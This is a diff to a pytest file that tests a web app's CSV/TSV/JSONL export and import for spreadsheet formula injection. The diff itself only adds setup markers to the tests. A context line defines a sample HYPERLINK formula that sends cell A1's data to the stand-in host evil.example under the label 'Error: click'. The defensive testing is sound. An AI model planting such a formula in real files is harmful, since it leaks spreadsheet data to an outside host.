@@ -24,6 +24,8 @@ from tests.waiting import until
 from tests.webapp.api.conftest import imports_of
 from tests.webapp.desk.conftest import Browser, Desk
 
+pytestmark = pytest.mark.usefixtures("workbooks_here")
+
 ROOT = Path(__file__).parents[4]
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Error: click")'
 TEXTS = {
@@ -97,6 +99,7 @@ def lists(desk: Desk) -> Iterator[str]:
             yield re.sub(r"<int:\w+>", "1", path)
 
 
+@pytest.mark.one_setup
 @pytest.mark.parametrize("separator", ["comma", "semicolon", "tab"])
 def test_no_list_of_the_desk_has_a_formula(filled: Desk, ada: Browser, jane: Browser, separator: str) -> None:
     jane.post("/desk/names/new", {"target": "=1"})
@@ -109,6 +112,7 @@ def test_no_list_of_the_desk_has_a_formula(filled: Desk, ada: Browser, jane: Bro
             assert (path, formulas(answer.text)) == (path, [])
 
 
+@pytest.mark.one_setup
 @pytest.mark.parametrize("separator", ["comma", "semicolon", "tab"])
 @pytest.mark.parametrize("path", ["/desk/names.csv", "/desk/everything.csv"])
 def test_an_import_of_a_list_gives_the_values_back(
@@ -119,6 +123,7 @@ def test_an_import_of_a_list_gives_the_values_back(
         assert content(copy) == content(filled.bindings)
 
 
+@pytest.mark.one_setup
 @pytest.mark.parametrize("bom", [True, False])
 @pytest.mark.parametrize(("format", "delimiter"), [("csv", ","), ("csv", ";"), ("tsv", "\t"), ("jsonl", None)])
 def test_an_import_of_an_export_gives_the_values_back(
@@ -135,6 +140,7 @@ def test_an_import_of_an_export_gives_the_values_back(
         assert content(copy) == content(filled.bindings)
 
 
+@pytest.mark.one_setup
 @pytest.mark.parametrize("options", [("--bom",), ("--bom", "--delimiter", ";"), ()])
 def test_the_command_exports_formulas_only_for_programs(
     filled: Desk, tmp_path: Path, copied: Callable[..., Bindings], options: tuple[str, ...]
@@ -147,6 +153,7 @@ def test_the_command_exports_formulas_only_for_programs(
         assert content(copy) == content(filled.bindings)
 
 
+@pytest.mark.one_setup
 @pytest.mark.parametrize("bom", [True, False])
 @pytest.mark.parametrize("format", ["csv", "tsv"])
 def test_the_file_of_an_export_has_formulas_only_for_programs(
@@ -167,6 +174,7 @@ def test_the_file_of_an_export_has_formulas_only_for_programs(
             assert content(copy) == content(filled.bindings)
 
 
+@pytest.mark.one_setup
 @pytest.mark.parametrize("separator", [",", ";", "\t"])
 def test_a_table_with_formulas_comes_back_without_them_and_with_its_values(
     desk: Desk, jane: Browser, preview: Any, import_all: Any, separator: str
